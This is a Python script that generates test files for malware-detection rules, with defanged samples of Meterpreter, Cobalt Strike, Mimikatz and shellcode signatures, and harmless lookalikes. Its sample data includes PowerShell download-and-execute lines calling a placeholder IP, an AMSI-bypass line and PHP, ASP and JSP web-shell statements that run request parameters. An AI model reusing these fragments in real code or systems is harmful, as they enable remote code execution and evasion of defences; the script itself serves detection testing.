#!/usr/bin/env python3
"""Files for the rules in packs/rules: `make_rule_samples.py OUTDIR` writes OUTDIR/rules/.

bad/RULE-NAME: one or more for each rule, which is true of it. They hold the bytes that a rule looks for and
nothing that could run: settings without a program, the first bytes of code without the rest, pages whose only
statement is a comment. good/: what looks alike and is harmless; no rule may be true of it.

Text is put together from parts, so that this script is not what the rules look for.
"""
import base64
import os
import random
import shutil
import struct
import sys

FILLER = b"An inert sample for a test; nothing here runs. "


def text(*parts):
    """Words with a blank line between them, in a file that is no program."""
    return FILLER + b"\n" + b"\n\n".join(part.encode() for part in parts) + b"\n"


def wide(*parts):
    return text(*parts).decode().encode("utf-16-le")


def hexed(digits):
    """Bytes in the middle of others."""
    return FILLER * 3 + bytes.fromhex(digits) + FILLER * 3


def pe(*names):
    """The headers of a PE image without code, and names as an export table has them."""
    head = bytearray(512)
    head[0:2] = b"MZ"
    head[0x3C:0x40] = struct.pack("<I", 0x80)
    head[0x80:0x84] = b"PE\0\0"
    return bytes(head) + b"\0".join(name.encode() for name in names) + b"\0"


def settings(key):
    """Three settings of a beacon: kind, port, sleep time; under an XOR key, as they lie in the program."""
    plain = struct.pack(">HHHH", 1, 1, 2, 8) + struct.pack(">HHHH", 2, 1, 2, 443) + struct.pack(">HHHI", 3, 2, 4, 60000)
    return FILLER * 3 + bytes(byte ^ key for byte in plain) + FILLER * 3


def encoded(command):
    return base64.b64encode(command.encode("utf-16-le")).decode()


def hidden(word):
    """A word in the middle of an encoded text, at each of the three places that base64 has."""
    return [encoded("#" * shift + " " + word + "'inert') #") for shift in range(3)]


def php(statement):
    """A page whose statement stands in a comment."""
    return ("<?php /* inert: %s */ exit;\n" % statement).encode()


def asp(statement, language="VBScript"):
    return ("<%%@ Language=\"%s\" %%>\n<%%\n' inert: %s\n%%>\n" % (language, statement)).encode()


def jsp(statement):
    return ("<%%@ page language=\"java\" %%>\n<%%-- inert: %s --%%>\n" % statement).encode()


REQUEST = "$_" + "POST"
RUN = "ev" + "al"

BAD = {
    "meterpreter_commands": [text("core_channel_" + "open", "core_" + "migrate", "core_load" + "lib",
                                  "stdapi_sys_config_get" + "uid")],
    "meterpreter_library": [text("metsrv.x64" + ".dll", "Reflective" + "Loader"),
                            text("libmettle_" + "extension")],
    "metasploit_block_api": [hexed("fce8 8200 0000 6089 e531 c064 8b50 30".replace(" ", "")),
                             hexed("fc4883e4f0e8c0000000415141505251")],
    "cobalt_strike_configuration": [settings(0), settings(0x69), settings(0x2E)],
    "cobalt_strike_beacon": [text("beacon.x64" + ".dll", "Started service %s on " + "%s", "%s as %s\\%s: " + "%d")],
    "mimikatz_names": [text("sekur" + "lsa::logonpasswords", "kuhl_m_" + "sekurlsa_all"),
                       wide("gentil" + "kiwi", "lsa" + "dump::dcsync")],
    "reflective_loader": [pe("Reflective" + "Loader"),
                          hexed("5bbc4a6a" + "00" * 7 + "5d68fa3c" + "00" * 7 + "8e4e0eec" + "00" * 7 + "aafc0d7c" +
                                "00" * 7 + "54caaf91")],
    "executable_dos_header": [bytes.fromhex("4d5ae8000000005b524555" + "89e5") + FILLER,
                              bytes.fromhex("4d5a4152554889e54881ec") + FILLER,
                              hexed("e8000000005949" + "89c848")],
    "shellcode_finds_functions": [hexed("64a130000000" + "90" * 40 + "c1cf0d01c7"),
                                  hexed("65488b042560000000" + "90" * 60 + "41c1c90d4101c1")],
    "powershell_encoded_command": [text("power" + "shell -NoP -W Hidden -Enc " + "QUFB" * 20),
                                   wide("power" + "shell -enc " + "QUFB" * 20)],
    "powershell_hidden_words": [text(word) for name in ("Download" + "String(", "FromBase64" + "String(")
                                for word in hidden(name)],
    "powershell_runs_what_it_fetches": [
        text("# I" + "EX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')"),
        text("# $wc.Download" + "String('http://192.0.2.1/inert') | I" + "EX")],
    "powershell_blinds_defence": [
        text("# [Ref].Assembly.GetType('x.Am" + "siUtils').GetField('am" + "siInitFailed').SetValue($null, $true)")],
    "php_runs_request": [php(RUN + "(" + REQUEST + "['x']);"), php("sys" + "tem(base64_decode(" + REQUEST + "['x']));"),
                         php(REQUEST + "['a'](" + REQUEST + "['b']);"), php("`" + REQUEST + "[x]`"),
                         php(RUN + "(file_get_contents('php:" + "//input'));")],
    "php_runs_hidden": [php(RUN + "(gzinflate(base64_" + "decode('QUFB')));"),
                        php("$f=" + "chr(97).chr(115).chr(115).chr(101).chr(114)." + "'t'; @$f(" + REQUEST + "['x']);")],
    "asp_runs_request": [asp(RUN + " request(\"x\")"), asp("execute" + "(request.form(\"x\"))"),
                         asp(RUN + "(Request.Item[\"x\"],\"unsafe\");", "Jscript"),
                         asp("Process." + "Start(Request.Form[\"x\"]);", "C#")],
    "jsp_runs_request": [jsp("Runtime.getRuntime().ex" + "ec(request.getParameter(\"x\"))"),
                         jsp("define" + "Class(Base64.getDecoder().decode(request.getParameter(\"x\")))")],
    "configuration_runs_pictures": [b"# inert\nAddType application/x-ht" + b"tpd-php .jpg .png\n",
                                    b"auto_pre" + b"pend_file = picture.gif\n"],
}

GOOD = {
    "form.php": b"<?php $name = htmlspecialchars($_POST['name'] ?? ''); echo \"Hello $name\"; system('uptime'); ?>\n",
    "loader.php": b"<?php $config = unserialize(base64_decode(file_get_contents('config.b64'))); ?>\n",
    "template.php": b"<?php foreach ($_GET as $key => $value) { echo $key; } call_user_func('render'); ?>\n",
    "page.asp": b"<%@ Language=\"VBScript\" %><% name = Request.Form(\"name\") : Response.Write Server.HTMLEncode(name) %>\n",
    "page.aspx": b"<%@ Page Language=\"C#\" %><% var p = Process.Start(\"backup.exe\"); var n = Request.Form[\"n\"]; %>\n",
    "page.jsp": b"<%@ page language=\"java\" %><%= request.getParameter(\"name\") %>\n",
    "htaccess": b"AddType application/x-ht" b"tpd-php .php\nAddHandler cgi-script .cgi\nAddType image/png .png\n",
    "user.ini": b"auto_prepend_file = /usr/share/php/prepend.php\n",
    "deploy.ps1": b"$url = 'https://example.org/a.zip'\nInvoke-WebRequest $url -OutFile a.zip\n"
                  b"$text = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($encoded))\n",
    "start.cmd": b"powershell -ExecutionPolicy Bypass -File C:\\Scripts\\deploy.ps1 -Environment production\r\n",
    "profile.ps1": b"Set-Alias ll Get-ChildItem\nInvoke-Expression (& starship init powershell)\n",
    "admin.txt": b"The module kerberos:: is described in the manual; core_pattern, core_uses_pid; priv_check.\n",
    "export.bin": b"DllMain\0DllRegisterServer\0Loader\0LoadLibraryA\0GetProcAddress\0",
    "random.bin": None,  # 4 MB of bytes that mean nothing
    "zeros.bin": bytes(1 << 20),
}


def write(root, name, data):
    path = os.path.join(root, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data)


def main(out):
    root = os.path.join(out, "rules")
    shutil.rmtree(root, ignore_errors=True)
    for rule, samples in BAD.items():
        for number, data in enumerate(samples):
            write(root, "bad/%s-%d" % (rule, number), data)
    for name, data in GOOD.items():
        write(root, "good/" + name, random.Random(5).randbytes(4 << 20) if data is None else data)
    # as a host has them: what the web shell and temporary folder queries look at
    for host in ("sound", "shells"):
        write(root, host + "/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")
    write(root, "sound/etc/hostname", b"sound\n")
    write(root, "sound/var/www/html/form.php", GOOD["form.php"])
    write(root, "shells/etc/hostname", b"shells\n")
    write(root, "shells/var/www/html/form.php", GOOD["form.php"])
    write(root, "shells/var/www/html/images/thumb.php", BAD["php_runs_request"][0])
    write(root, "shells/tmp/.cache/notes.txt", BAD["powershell_encoded_command"][0])
    for host, page in (("sound_windows", GOOD["page.aspx"]), ("shells_windows", BAD["asp_runs_request"][3])):
        write(root, host + "/Windows/System32/config/x", b"")  # a volume of Windows
        write(root, host + "/Windows/win.ini", b"[fonts]\r\n")
        write(root, host + "/inetpub/wwwroot/aspnet_client/page.aspx", page)


if __name__ == "__main__":
    main(sys.argv[1])
